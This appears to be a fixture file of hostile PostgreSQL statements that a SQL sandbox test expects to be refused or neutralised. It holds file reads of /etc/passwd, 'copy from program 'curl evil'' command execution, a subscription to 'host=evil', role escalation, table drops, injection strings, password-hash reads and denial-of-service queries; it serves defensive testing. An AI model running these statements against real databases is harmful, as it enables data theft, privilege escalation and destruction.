-- What must be refused or harmless: see sql-attacks.test.ts. One text a line. "notes" is a table of the attacker's own.
select xpath('/a', '<a/>'::xml)
select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
select * from xmltable('/a' passing '<a/>' columns b text path 'b')
select query_to_xml('select * from rowhouse.project_data', true, true, '')
select table_to_xml('rowhouse.project_data', true, true, '')
select schema_to_xml('rowhouse', true, true, '')
select dblink('host=localhost', 'select 1')
select * from dblink_connect('x')
select lo_creat(1), lo_export(1, '/tmp/x')
select lo_get(1), lo_put(1, 0, 'x'), lo_from_bytea(0, 'x')
select pg_read_binary_file('/etc/passwd'), pg_stat_file('/'), pg_ls_dir('/'), pg_ls_logdir(), pg_ls_waldir()
select pg_catalog.pg_read_file('PG_VERSION')
select ('/etc/passwd'::text).pg_read_file
select x.pg_read_file from (select '/etc/passwd'::text) x (x)
select g.pg_sleep from generate_series(5, 5) g
select (5::float8).pg_sleep
select n.pg_column_toast_chunk_id from notes n
select pg_sleep_for('5 seconds'), pg_sleep_until(now())
select "pg_sleep"(5)
select PG_CATALOG."pg_sleep"(5)
select u&"pg\005fsleep"(5)
select 1 operator(pg_catalog.+) 1
select 1 operator(rowhouse.+) 1
select 1 operator(public.=) 1
select 'rowhouse.project_data'::regclass
select 'pg_class'::regclass::oid, 'int4'::regtype, 'now'::regproc, 'postgres'::regrole, 'rowhouse'::regnamespace
select cast('rowhouse.project_data' as regclass)
select regclass 'rowhouse.project_data'
select to_regclass('rowhouse.project_data'), to_regrole('postgres'), to_regproc('now'), to_regtype('int4')
select * from json_to_record('{"a":"rowhouse.project_data"}') as x (a regclass)
select * from json_table('{"a":"pg_authid"}', '$' columns (a regclass path '$.a'))
select json_value('"rowhouse.users"', '$' returning regclass)
select jsonb_populate_record(null::rowhouse.project_data, '{}')
select null::rowhouse.project_data
select null::pg_catalog.pg_authid
select array[]::pg_authid[]
select (json_populate_record(null::record, '{"a":1}'))
select set_config('app.claims', '', true)
select set_config('role', 'postgres', false), current_setting('app.claims')
select current_setting('is_superuser'), current_setting('data_directory')
set search_path to rowhouse
set local role rowhouse_request
set session "app.claims" = 'x'
reset role
reset all
show all
show data_directory
discard all
set transaction read write
set constraints all deferred
select current_user, session_user, current_role, user, current_catalog, current_schema
select current_schemas(true), current_database(), version(), inet_server_addr(), inet_client_port(), pg_backend_pid()
select pg_postmaster_start_time(), pg_conf_load_time(), pg_is_in_recovery()
select has_table_privilege('rowhouse.users', 'select'), pg_has_role('postgres', 'member')
select pg_table_size('rowhouse.project_data'), pg_database_size(1), pg_total_relation_size(1), pg_relation_filepath(1)
select pg_get_functiondef(1), pg_get_viewdef(1), pg_get_expr('', 1), pg_get_indexdef(1), obj_description(1)
select * from pg_stat_activity
select * from pg_catalog.pg_stats where schemaname = 'rowhouse'
select * from pg_stat_get_activity(null)
select pg_stat_reset(), pg_stat_get_live_tuples(1)
select * from pg_locks, pg_settings, pg_roles, pg_shadow, pg_user, pg_tables
select * from information_schema.columns
select * from rowhouse.project_data
select * from "rowhouse"."users"
select * from app.signing_key
select * from template1.pg_catalog.pg_class
select * from supabase_migrations.schema_migrations
select app.project_id(), app.claims(), app.violates_reference('a', 'b', 'c', 'd', 'e', 'f', true)
select app.refuse_row('x', '[]', 0, array['a']), app.affected_row_twice(), app.end_user_id()
select nextval('rowhouse.x'), currval('x'), lastval(), setval('x', 1)
select txid_current(), pg_current_xact_id(), pg_current_snapshot(), txid_status(1), pg_xact_commit_timestamp('1')
select pg_advisory_lock(1), pg_try_advisory_lock(1), pg_advisory_unlock_all(), pg_advisory_xact_lock(1)
select pg_notify('a', 'b')
listen a
notify a, 'b'
unlisten *
lock table notes
lock table rowhouse.project_data in access exclusive mode
prepare p as select * from rowhouse.project_data
execute p
deallocate all
declare c cursor with hold for select * from notes
fetch all from c
close all
move 1 in c
copy notes to stdout
copy (select * from notes) to '/tmp/x'
copy notes from program 'curl evil'
copy notes from '/etc/passwd'
do $$begin execute 'drop table rowhouse.project_data'; end$$
do language plpgsql $$begin create type x as enum ('a'); execute 'x'; exception when duplicate_object then null; end$$
do $$ begin drop table notes; select pg_sleep(9); exception when others then null; end $$
call pg_sleep(1)
load 'auto_explain'
create extension dblink
create language plperlu
create function f() returns text language plpython3u as 'x'
create function f() returns text language sql as 'select pg_read_file(''/etc/passwd'')'
create function f() returns setof text language sql as 'select data::text from rowhouse.project_data'
create function f() returns text language sql security definer set search_path = rowhouse as 'select current_user::text'
create function f(a text default pg_read_file('/etc/passwd')) returns text language sql as 'select a'
create view v as select * from rowhouse.project_data
create view v as select pg_sleep(1)
create view v with (security_barrier = false) as select * from pg_stats
create table t (a text default pg_read_file('/etc/passwd'))
create table t (a text default current_user)
create table t (a int check (pg_sleep(1) is null))
create table t (a text generated always as (pg_read_file(a)) stored)
create table t (a regclass, b oid, c xml, d pg_lsn)
create table t as select * from rowhouse.project_data
create table t as select pg_read_file('/etc/passwd')
create table t (like rowhouse.project_data)
create table t (like pg_authid including all)
create table rowhouse.t (a int)
create table pg_temp.t (a int)
create temp table t (a int)
create unlogged table t (a int) tablespace pg_default
create unique index u on notes ((pg_sleep(1)::text))
create unique index u on notes (note) where exists (select from rowhouse.project_data)
create unique index u on notes ((app.project_id()::text))
create unique index u on rowhouse.project_data (id)
create policy p on notes using (pg_sleep(1) is null)
create policy p on notes using (exists (select from rowhouse.project_data))
create trigger t after insert on notes execute function f()
create rule r as on insert to notes do instead delete from notes
create event trigger t on ddl_command_start execute function f()
create server s foreign data wrapper postgres_fdw
create publication p for all tables
create subscription s connection 'host=evil' publication p
create role x superuser
create database x
create schema x authorization postgres
alter system set work_mem = '1GB'
alter role postgres superuser
alter database postgres set search_path = x
alter table rowhouse.project_data disable row level security
alter table notes owner to postgres
alter function app.claims() owner to rowhouse_sql
alter default privileges grant all on tables to public
grant all on rowhouse.project_data to public
grant rowhouse_owner to rowhouse_sql
security label on table notes is 'x'
comment on database postgres is 'x'
reassign owned by postgres to rowhouse_sql
drop owned by rowhouse_owner
drop schema rowhouse cascade
drop database postgres
truncate rowhouse.project_data
vacuum full notes
analyze rowhouse.project_data
checkpoint
reindex table rowhouse.project_data
cluster rowhouse.project_data
refresh materialized view x
explain select * from rowhouse.project_data
explain (analyze, settings) select pg_sleep(1)
explain analyze create table x as select 1
explain execute p
merge into rowhouse.project_data d using notes n on true when matched then delete
merge into notes n using rowhouse.project_data d on true when not matched then insert (note) values (d.data::text)
merge into notes n using (select 'x' as v) s on true when matched then update set note = pg_read_file('/etc/passwd')
merge into notes n using (select 'x' as v) s on n.note = s.v when not matched then insert (note) values (s.v) returning (select data from rowhouse.project_data limit 1)
merge into notes n using (select 'x' as v) s on n.note = s.v when matched then do nothing returning "$w".*, "$s".*
merge into notes n using (select 1 as "$n", 'x' as "$f0") s on true when matched then delete
insert into notes (note) select data::text from rowhouse.project_data
insert into notes (note) values ((select data::text from rowhouse.project_data limit 1))
insert into notes (project_id, note) values ('00000000-0000-0000-0000-000000000000', 'x')
update notes set project_id = '00000000-0000-0000-0000-000000000000'
update notes set note = d.data::text from rowhouse.project_data d
update notes set note = "$t"."$data"::text
update notes set note = 'x' where "$t"."$project_id" is not null
delete from notes using rowhouse.project_data d where d.id = notes.id
delete from notes returning (select string_agg(note, '') from rowhouse.project_data)
insert into notes (id, note) values (gen_random_uuid(), 'x') on conflict (id) do update set note = d.data::text
insert into notes (note) values ('x') returning "$w".*
with "$notes" as (select 1) insert into notes (note) select 'x' from "$notes"
select * from "$notes"
select "$t".* from notes
with recursive bomb (n) as (select 1 union all select n + 1 from bomb) select count(*) from bomb
with recursive bomb (s) as (select 'x' union all select s || s from bomb) select max(length(s)) from bomb
with a as (select generate_series(1, 100000) g), b as (select a.g from a, a a2), c as (select b.g from b, b b2) select count(*) from c
select count(*) from generate_series(1, 10000000000)
select array_agg(g) from generate_series(1, 1000000000) g
select string_agg(repeat('x', 1000000), '') from generate_series(1, 2000)
select repeat('x', 1000000000)
select repeat(repeat('x', 100000000), 20)
select lpad('x', 1000000000), rpad('x', 1000000000)
select array_fill(1, array[100000000])
select jsonb_agg(repeat('x', 10000000)) from generate_series(1, 100)
select ('(a+)+$')::text ~ repeat('a', 10), repeat('a', 50) || '!' ~ '^(a|a)*(a|a)*(a|a)*$'
select regexp_replace(repeat('a', 100000), '(a*)*b', 'x', 'g')
select regexp_count(repeat('a', 1000000), '(a|aa)+$')
select repeat('a', 5000) similar to '((a|aa)*)*b'
select to_tsvector(repeat('word ', 1000000))
select 9 ^ 9 ^ 9 ^ 9, factorial(100000)
select numeric '1e131071' * numeric '1e131071'
select power(10::numeric, 100000)
select jsonb_path_query('[1]', '$ ? (@ like_regex "(a*)*b")')
select convert_from('\xff', 'UTF8'), chr(0), convert('a', 'UTF8', 'nope')
select 1 from notes order by (select count(*) from generate_series(1, 100000000))
select 1 limit (select count(*) from generate_series(1, 100000000))
select case when (select count(*) from notes where note = 'secret') > 0 then pg_sleep(5) end
select count(*) from notes where note > 'a' and 1 / (case when note = 'secret' then 0 else 1 end) > 0
select note::int from notes
select cast(note as date) from notes
select * from notes n where row_to_json(n)::text like '%secret%'
select (n.*)::text, n::text, to_jsonb(n), json_agg(n) from notes n group by n
select json_object_keys(row_to_json(n)) from notes n
select * from notes n, lateral (select n.*) x
select notes.tableoid, notes.ctid, notes.xmin, notes.cmax from notes
select n.project_id, n.table_id, n.data, n.t1, n.u1, n.r1 from notes n
select password_hash from users
select u.* from users u where u.password_hash like '$2%'
select auth.uid(), auth.jwt(), auth.role()
select auth.admin()
select ''; drop table rowhouse.project_data; --
select 1 /* ; */ ; set role postgres
select 1 where 'a' = 'a' or 1=1 union select null, null from pg_shadow --
begin; set role postgres; commit
begin; select 1; commit; select 2
rollback; select 1
commit
savepoint a; rollback to b
release nope
start transaction isolation level serializable; select 1; commit
set transaction isolation level read uncommitted
select pg_export_snapshot()
set transaction snapshot '00000003-0000001B-1'
select pg_logical_emit_message(false, 'a', 'b'), pg_create_restore_point('x'), pg_switch_wal(), pg_reload_conf(), pg_rotate_logfile()
select pg_create_logical_replication_slot('x', 'test_decoding')
select pg_import_system_collations('pg_catalog')
select ts_stat('select data from rowhouse.project_data'), ts_rewrite('a'::tsquery, 'select data from rowhouse.project_data')
select ts_debug('a'), ts_parse('default', 'a'), ts_lexize('english_stem', 'a')
select to_tsvector('pg_catalog.nope', 'x'), 'nope'::regconfig, to_tsvector('/etc/passwd', 'x')
select cursor_to_xml('c', 1, true, true, ''), database_to_xml(true, true, '')
select binary_upgrade_set_next_pg_type_oid(1), pg_nextoid('pg_class', 'oid', 'x')
select brin_summarize_new_values(1), gin_clean_pending_list(1)
select suppress_redundant_updates_trigger(), RI_FKey_check_ins(), unique_key_recheck()
select int4in('1'), textin('a'), array_in('{}', 1, 1), record_in('()', 1, 1), regclassin('pg_class'), domain_in('x', 1, 1)
select textrecv(null), byteain('x'), cstring_out('x'), any_in('x'), pg_ndistinct_in('x')
select acldefault('r', 1), aclexplode('{}'), makeaclitem(1, 1, 'x', true)
select pg_filenode_relation(1, 1), pg_relation_is_publishable(1), row_security_active('notes')
select pg_input_is_valid('x', 'regclass'), pg_input_error_info('rowhouse.users', 'regclass')
select pg_describe_object(1, 1, 0), pg_identify_object(1, 1, 0), pg_get_object_address('table', '{rowhouse,users}', '{}')
select pg_safe_snapshot_blocking_pids(1), pg_blocking_pids(1), pg_isolation_test_session_is_blocked(1, '{}')
select format_type(23, -1), pg_typeof(1)::oid, pg_typeof(1)::regtype::text, col_description(1, 1)
select pg_char_to_encoding('x'), getdatabaseencoding(), pg_client_encoding()
select pg_cancel_backend(1), pg_terminate_backend(1), pg_log_backend_memory_contexts(1), pg_promote()
select 'x' collate "nope", 'x' collate rowhouse.x, 'a' < 'b' collate pg_catalog."C"
select * from generate_series(1, 3) as rowhouse (a), lateral (select rowhouse.project_data.data from rowhouse.project_data) x
copy notes (note) from stdin with (format csv, program 'id')
select null::pg_authid
select (null::pg_authid).rolpassword
select jsonb_populate_record(null::pg_authid, '{}')
select row('/etc/passwd')::regclass
select pg_read_file(n) from notes n
